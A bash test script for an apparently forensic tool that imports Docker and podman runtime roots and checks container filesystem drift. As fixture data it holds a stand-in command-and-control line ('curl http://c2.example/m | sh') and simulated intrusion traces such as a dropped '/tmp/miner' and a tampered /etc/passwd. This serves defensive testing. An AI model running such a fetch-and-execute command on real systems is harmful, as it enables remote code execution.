#!/usr/bin/env bash
# 0800-runtime: copied container-runtime roots and drift.
#
# A containers/storage root made here by podman (vfs storage, runc): a
# container adds, changes and deletes files; drift equals what
# `podman container diff` prints, the new executable is flagged, a
# deleted file keeps the image layer's content hash, and the collector
# datasets/collect/runtime-root.sh copies the root into a tar that
# imports the same. A synthetic Docker overlay2 root
# (tests/data/runtime/make-overlay2.py) exercises whiteouts, an opaque
# directory, the init layer and hard links against the A/C/D list moby's
# rules give (overlay2.expected). The two real /var/lib/docker copies of
# ../shared/fixtures/dockerhost (overlay2 and aufs) give their containers
# as jq reads config.v2.json, and the overlay2 one the file a container
# added, with the SHA-256 of its bytes. Bad input: a truncated root keeps
# what came before the cut; a tar that holds no runtime root is rejected,
# case unchanged. podman's diff output, saved to a file named by the
# container id, imports as that container's drift (source docker diff).
# export-file --container writes a drift file's bytes from the stored
# root (cmp against the file the container wrote). podman export of the
# same container, imported with podman save and inspect output, gives the
# same drift against the image, and so does a Docker-style copy of it
# (/.dockerenv and the init layer's files, left out as docker diff does).
set -u
. "$(dirname "$0")/../lib/lib.sh"

q() { "$DRYDOCK" query --format csv "$1" "$2" 2>/dev/null | tail -n +2 | sed 's/^"\(.*\)"$/\1/'; }
C=$T/case.drydock
dk init "$C"

# synthetic overlay2
/usr/bin/python3 tests/data/runtime/make-overlay2.py "$T/ov.tar" || fail "make-overlay2.py"
dk ingest "$C" "$T/ov.tar"
expect_rc 0 "a Docker overlay2 root imports (sniffed)"
O=$(q "$C" "select id from artifacts where name = '$T/ov.tar'")
q "$C" "select change || ' ' || path from drift where artifact_id = $O" | sort -k2 >"$T/ov.drift"
check "overlay2 drift: whiteouts, opaque directory, init layer, parents, as moby's rules give" \
	diff tests/data/runtime/overlay2.expected "$T/ov.drift"
expect_eq "a deleted file keeps the content hash and diff id of the image layer that held it" \
	"$(printf 'root:*:19000:0:::::\n' | sha256sum | cut -c1-64)|sha256:$(printf 'd1%.0s' $(seq 32))" \
	"$(q "$C" "select sha256 || '|' || layer_id from drift where artifact_id = $O and path = '/etc/shadow'")"
expect_eq "new and changed executables are flagged" "/bin/ls /etc/hosts /tmp/x" \
	"$(q "$C" "select path from drift where artifact_id = $O and executable = 1 and change != 'D' order by path" | tr '\n' ' ' | sed 's/ $//')"
dk export-file "$C" --container c0ffee /tmp/x -o "$T/x.out"
expect_rc 0 "export-file --container: an added file of the writable layer"
expect_eq "its bytes, from the stored root" "$(printf '#!/bin/sh\ncurl http://c2.example/m | sh\n' | sha256sum)" \
	"$(sha256sum <"$T/x.out")"
expect_eq "a deleted file exports the version the image held" "root:*:19000:0:::::" \
	"$("$DRYDOCK" -q export-file "$C" --container c0ffee /etc/shadow -o - 2>/dev/null)"
dk export-file "$C" --container c0ffee /etc/nothere -o "$T/n.out"
expect_rc 1 "a path the container did not change is not exported"
check "and the error says so" grep -q "did not change '/etc/nothere'" "$T/.err"
[ ! -e "$T/n.out" ] && ok "no output file left" || fail "no output file left"
expect_eq "the container from config.v2.json and hostconfig.json" "evil|alpine:3.18|1" \
	"$(q "$C" "select name || '|' || image || '|' || privileged from containers where id like 'c0ffee%'")"
expect_eq "layers: two image layers with diff ids, the init layer, the writable layer" \
	"L1|image|sha256:d1 L2|image|sha256:d2 rwdir|rw| rwdir-init|init|" \
	"$(q "$C" "select dir || '|' || role || '|' || coalesce(substr(diff_id, 1, 9), '') from runtime_layers where artifact_id = $O order by dir" | tr '\n' ' ' | sed 's/ $//')"

# the real Docker roots
F=../shared/fixtures/dockerhost
if [ -d "$F" ] && command -v jq >/dev/null; then
	for v in overlay2 aufs; do
		dk ingest "$C" "$F/docker-explorer_$v.v2.tgz"
		expect_rc 0 "docker-explorer's $v root imports"
		a=$(q "$C" "select max(id) from artifacts where name like '%/docker-explorer_$v.v2.tgz'")
		tar -xzf "$F/docker-explorer_$v.v2.tgz" -C "$T" --wildcards '*/config.v2.json'
		for f in "$T"/docker/containers/*/config.v2.json; do
			jq -r '[.ID, (.Name | ltrimstr("/")), .Config.Image] | join("|")' "$f"
		done | sort >"$T/jq.$v"
		q "$C" "select c.id || '|' || c.name || '|' || c.image from containers c where c.id in (select container_id from runtime_layers where artifact_id = $a) order by 1" >"$T/dd.$v"
		check "$v: every container as jq reads config.v2.json" diff "$T/jq.$v" "$T/dd.$v"
		rm -rf "$T/docker"
	done
	a=$(q "$C" "select max(id) from artifacts where name like '%/docker-explorer_overlay2.v2.tgz'")
	m=$(tar -xzOf "$F/docker-explorer_overlay2.v2.tgz" docker/image/overlay2/layerdb/mounts/8e8b7f23eb7cbd4dfe7e91646ddd0e0f524218e25d50113559f078dfb2690206/mount-id)
	expect_eq "overlay2: the file container 8e8b7f23 added, with the SHA-256 of its bytes" \
		"A|/tets|$(tar -xzOf "$F/docker-explorer_overlay2.v2.tgz" "docker/overlay2/$m/diff/tets" | sha256sum | cut -c1-64)" \
		"$(q "$C" "select change || '|' || path || '|' || sha256 from drift where artifact_id = $a")"
	dk export-file "$C" --container 8e8b7f23 /tets -o "$T/tets.out"
	expect_rc 1 "a compressed root's drift has no stored content to export"
	check "and the error says why" grep -q "compressed original" "$T/.err"
else
	echo "note: ../shared/fixtures/dockerhost or jq absent"
fi

# podman, live
P=(podman --root "$T/pm/storage" --runroot "$T/pm/run" --storage-driver vfs --runtime runc)
mk_podman() {
	command -v podman >/dev/null && command -v runc >/dev/null && command -v busybox >/dev/null || return 1
	local r=$T/rootfs
	mkdir -p "$r/bin" "$r/etc" "$r/tmp" "$r/var/log" && chmod 755 "$r"
	cp "$(command -v busybox)" "$r/bin/busybox"
	for a in sh cat ls rm mkdir cp chmod echo; do ln -s busybox "$r/bin/$a"; done
	echo 'root:x:0:0:root:/:/bin/sh' >"$r/etc/passwd"
	echo started >"$r/var/log/app.log"
	tar -C "$r" -cf "$T/rootfs.tar" . &&
		"${P[@]}" import "$T/rootfs.tar" localhost/dd-drift >/dev/null 2>&1 &&
		"${P[@]}" run --name dd-drift-ctr --network none --ulimit nofile=1024:1024 \
			--ulimit nproc=1024:1024 localhost/dd-drift sh -c \
			'echo x > /tmp/new; echo evil >> /etc/passwd; rm /bin/ls /var/log/app.log; mkdir /newdir; echo z > /newdir/f; cp /bin/busybox /tmp/miner; chmod 755 /tmp/miner' \
			>/dev/null 2>&1
}
if mk_podman; then
	"${P[@]}" container diff dd-drift-ctr | sort -k2 >"$T/podman.diff"
	id=$("${P[@]}" container inspect -f '{{.Id}}' dd-drift-ctr)
	sh datasets/collect/runtime-root.sh -r "$T/pm/storage" "$T/root.tar"
	[ $? -eq 0 ] && ok "runtime-root.sh copies the root" || fail "runtime-root.sh copies the root"
	dk ingest "$C" "$T/root.tar"
	expect_rc 0 "the collector's tar imports (sniffed)"
	R=$(q "$C" "select id from artifacts where name = '$T/root.tar'")
	q "$C" "select change || ' ' || path from drift where artifact_id = $R and container_id = '$id'" | sort -k2 >"$T/dd.diff"
	check "drift is what podman container diff prints" diff "$T/podman.diff" "$T/dd.diff"
	expect_eq "the new executable, with the SHA-256 of busybox" "/tmp/miner|$(sha256sum "$(command -v busybox)" | cut -c1-64)" \
		"$(q "$C" "select path || '|' || sha256 from drift where artifact_id = $R and executable = 1 and change = 'A'")"
	"$DRYDOCK" -q export-file "$C" --container dd-drift-ctr /tmp/miner -o "$T/miner.out"
	check "export-file --container by name gives the dropped binary byte for byte" \
		cmp "$(command -v busybox)" "$T/miner.out"
	expect_eq "the deleted log keeps its content hash" "$(echo started | sha256sum | cut -c1-64)" \
		"$(q "$C" "select sha256 from drift where artifact_id = $R and path = '/var/log/app.log'")"
	expect_eq "the container and its image" "dd-drift-ctr|localhost/dd-drift:latest" \
		"$(q "$C" "select name || '|' || image from containers where id = '$id'")"
	"${P[@]}" container diff dd-drift-ctr >"$T/$id-diff.txt"
	dk ingest "$C" "$T/$id-diff.txt"
	expect_rc 0 "podman container diff's output imports (dockerdiff, sniffed)"
	expect_eq "as the same container's drift rows" "$(cat "$T/podman.diff")" \
		"$(q "$C" "select change || ' ' || path from drift where source = 'docker diff' and container_id = '$id'" | sort -k2)"
	# podman export, podman save and podman inspect: the export's drift
	# against its image, given first but imported last
	mkdir -p "$T/exp"
	"${P[@]}" export dd-drift-ctr -o "$T/exp/$id.tar" &&
		"${P[@]}" save --format docker-archive -o "$T/img.tar" localhost/dd-drift >/dev/null 2>&1 &&
		"${P[@]}" inspect dd-drift-ctr >"$T/inspect.json"
	E=$T/exp.drydock
	dk init "$E"
	dk ingest "$E" "$T/exp/$id.tar" "$T/img.tar" "$T/inspect.json"
	expect_rc 0 "podman export, save and inspect import (the export sniffed, taken last)"
	check "the export against its image is what podman container diff prints" \
		diff "$T/podman.diff" <(q "$E" "select change || ' ' || path from drift where source = 'export' and container_id = '$id'" | sort -k2)
	dk export-file "$E" --container "${id:0:12}" /tmp/miner -o "$T/miner2.out"
	check "export-file reads the dropped binary from the stored export" cmp "$(command -v busybox)" "$T/miner2.out"
	# the same export made Docker-style: /.dockerenv first, the init
	# layer's files (never in docker diff), no podman mount points, and
	# an unchanged file's time kept to the nanosecond (0.4 s before the
	# image's, which Go's tar writer rounded)
	/usr/bin/python3 - "$T/exp/$id.tar" "$T/web-1-export.tar" <<'PY'
import sys, tarfile
src = tarfile.open(sys.argv[1])
with tarfile.open(sys.argv[2], "w", format=tarfile.PAX_FORMAT) as out:
    out.addfile(tarfile.TarInfo(".dockerenv"))
    for m in src.getmembers():
        if m.name.startswith("run"):
            continue
        if m.name == "bin/busybox":
            m.mtime -= 0.4  # nanoseconds kept here, rounded in the image
        out.addfile(m, src.extractfile(m) if m.isfile() else None)
        if m.name == "dev":
            for d in ("dev/pts", "dev/shm"):
                t = tarfile.TarInfo(d); t.type = tarfile.DIRTYPE; out.addfile(t)
            t = tarfile.TarInfo("dev/console"); out.addfile(t)
PY
	dk ingest "$E" -o image=localhost/dd-drift "$T/web-1-export.tar"
	expect_rc 0 "a Docker-style export with -o image="
	check "drift leaves out Docker's init layer as docker diff does" \
		diff "$T/podman.diff" <(q "$E" "select change || ' ' || path from drift d join artifacts a on a.id = d.artifact_id where a.name = '$T/web-1-export.tar'" | sort -k2)
	expect_eq "named by the file's name" "web-1" \
		"$(q "$E" "select distinct container_id from drift d join artifacts a on a.id = d.artifact_id where a.name = '$T/web-1-export.tar'")"
	X=$T/noimg.drydock
	dk init "$X"
	s0=$(case_state "$X")
	dk ingest "$X" "$T/exp/$id.tar"
	expect_rc 1 "an export whose image is not in the case is refused"
	check "saying what to import" grep -q "no container '$id' in the case (import its inspect output" "$T/.err"
	expect_eq "case unchanged" "$s0" "$(case_state "$X")"
	dk ingest "$X" -o image=none "$T/exp/$id.tar"
	expect_rc 0 "-o image=none keeps it without drift"
	expect_eq "with an anomaly saying so" "0|1" \
		"$(q "$X" "select (select count(*) from drift) || '|' || count(*) from anomalies where message like 'no drift: kept without an image%'")"
	"${P[@]}" rm -f dd-drift-ctr >/dev/null 2>&1
	"${P[@]}" rmi -f localhost/dd-drift >/dev/null 2>&1
else
	echo "note: podman, runc or busybox missing or podman cannot run here: no live drift check"
fi

# a diff file whose name holds no id: -o container=
printf 'C /etc\nA /etc/cron.d/evil\n' >"$T/diff.txt"
dk ingest "$C" --as dockerdiff -o container=c0ffeec0ffee "$T/diff.txt"
expect_rc 0 "docker diff output with -o container="
cf=$(printf 'c0ffee%.0s' $(seq 10))c0ff
expect_eq "its rows name that container, by the full id the case knows for the prefix" "A /etc/cron.d/evil|$cf C /etc|$cf" \
	"$(q "$C" "select change || ' ' || path || '|' || container_id from drift d join artifacts a on a.id = d.artifact_id where a.name = '$T/diff.txt' order by path desc" | tr '\n' ' ' | sed 's/ $//')"

# a root given as a directory: kept file by file, and told how to get drift
mkdir -p "$T/rootdir/overlay2/abc/diff" "$T/rootdir/image/overlay2" && echo x >"$T/rootdir/overlay2/abc/diff/f"
dk ingest "$C" "$T/rootdir"
expect_rc 0 "a runtime root as a directory imports as a group"
expect_eq "with an anomaly naming the collector" "1" \
	"$(q "$C" "select count(*) from anomalies a join artifacts r on r.id = a.artifact_id where r.name = '$T/rootdir' and a.message like '%runtime-root.sh -r DIR OUT.tar%'")"

# bad input
head -c 30000 "$T/ov.tar" >"$T/cut.tar"
dk ingest "$C" --as runtime "$T/cut.tar"
expect_rc 0 "a truncated root imports what came before the cut"
a=$(q "$C" "select id from artifacts where name = '$T/cut.tar'")
expect_eq "with an anomaly" "1" "$(q "$C" "select count(*) > 0 from anomalies where artifact_id = $a")"
s0=$(case_state "$C")
mkdir -p "$T/plain" && echo hi >"$T/plain/a.txt" && tar -C "$T/plain" -cf "$T/plain.tar" .
dk ingest "$C" --as runtime "$T/plain.tar"
expect_rc 1 "a tar without a runtime root is rejected"
expect_eq "case unchanged" "$s0" "$(case_state "$C")"
t_sanitized && fail "sanitizer report"
t_done
